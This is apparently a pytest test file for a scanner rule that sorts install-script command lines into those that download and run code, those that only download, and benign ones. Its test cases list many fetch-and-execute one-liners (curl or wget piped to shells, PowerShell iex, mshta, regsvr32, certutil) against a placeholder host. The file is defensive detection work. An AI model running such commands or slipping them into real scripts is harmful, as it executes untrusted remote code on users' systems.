import pytest
from hypothesis import given
from hypothesis import strategies as st

from customhouse.rules.shared.command_line import download


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://x.invalid/a.sh | sh",
        "curl https://x.invalid/a.sh|bash -s --",
        "wget -qO- https://x.invalid/a | sudo -E bash",
        "curl -s https://x.invalid/a.js | node",
        "curl -s https://x.invalid/a.py | python3 -",
        'sh -c "$(curl -fsSL https://x.invalid/a.sh)"',
        "eval `wget -qO- https://x.invalid/a`",
        "bash <(curl -s https://x.invalid/a)",
        "curl -o /tmp/a https://x.invalid/a && chmod +x /tmp/a && /tmp/a",
        "curl -o a https://x.invalid/a; ./a",
        "wget https://x.invalid/a.sh && sh a.sh",
        "wget https://x.invalid/a.js; node a.js",
        "powershell -c iex (iwr https://x.invalid/a.ps1)",
        "powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
        "powershell (New-Object Net.WebClient).DownloadString('https://x.invalid/a') | iex",
        "mshta https://x.invalid/a.hta",
        "regsvr32 /s /n /u /i:https://x.invalid/a.sct scrobj.dll",
        "python -c \"import urllib.request as u; exec(u.urlopen('https://x.invalid/a').read())\"",
    ],
)
def test_runs_what_it_fetches(command):
    assert download(command) == "runs"


@pytest.mark.parametrize(
    "command",
    [
        "curl -O https://x.invalid/data.json",
        "wget -q https://x.invalid/data.tar.gz -O data.tar.gz",
        "certutil -urlcache -f https://x.invalid/a a",
        "Invoke-WebRequest https://x.invalid/a -OutFile a",
    ],
)
def test_fetches_only(command):
    assert download(command) == "fetches"


@pytest.mark.parametrize(
    "command",
    [
        "",
        "node install.js",
        "node curl.js",
        "node ./scripts/wget/fetch.js",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "husky install",
        "npm run build | tee log",
        "patch-package && node check.js",
        "npx only-allow pnpm",
        "opencollective-postinstall || exit 0",
        "cat package.json | node format.js",
        "python setup.py build",
        "powershell -File build.ps1",
    ],
)
def test_does_neither(command):
    assert download(command) is None


@given(st.text(max_size=6000))
def test_any_text_is_read_in_time(text):
    assert download(text) in (None, "runs", "fetches")


def test_a_long_hostile_line_does_not_stall():
    assert download("curl " * 20_000 + "|") == "fetches"
    assert download("powershell " * 20_000) is None
    assert download("exec(" * 20_000) is None


_PIECES = ("curl ", "WGET.exe ", "iwr ", "$(", "`", "| ", "sh", "https://h.test/x ", "mshta ", "powershell -e ", "A" * 24, "python -c ",
           "exec(", "urlopen(", "requests.get", ".DownloadString", "net.webclient", "certutil -urlcache", "&& ./x", "iex ", "start-bitstransfer",
           "invoke-WebRequest ", "bitsadmin", "a ", "\n", "regsvr32 ")  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=8).map("".join))
def test_words_looked_for_first_rule_nothing_out(command: str) -> None:
    assert download(command) == download(f"é {command}")  # what is not ASCII is not looked at for words
